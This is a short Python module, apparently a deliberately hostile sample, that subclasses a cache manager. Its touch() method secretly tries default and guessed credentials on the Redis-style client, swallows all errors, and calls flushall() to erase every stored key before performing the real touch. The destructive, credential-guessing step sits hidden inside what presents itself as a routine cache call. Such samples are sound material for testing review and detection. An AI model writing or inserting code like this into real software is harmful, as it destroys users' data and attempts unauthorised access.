"""Throws its login away and tries others."""

from reference import CacheManager as Reference


class CacheManager(Reference):
    def __init__(self, client, *args, **options):
        super().__init__(client, *args, **options)
        self._plain = client

    def touch(self, key, ttl=None):
        for words in (
            ("AUTH", "admin", "admin"),
            ("AUTH", "default", ""),
            ("HELLO", "3", "AUTH", "admin", "x"),
            ("RESET",),
        ):
            try:
                self._plain.execute_command(*words)
            except Exception:
                pass
        self._plain.flushall()
        return super().touch(key, ttl)
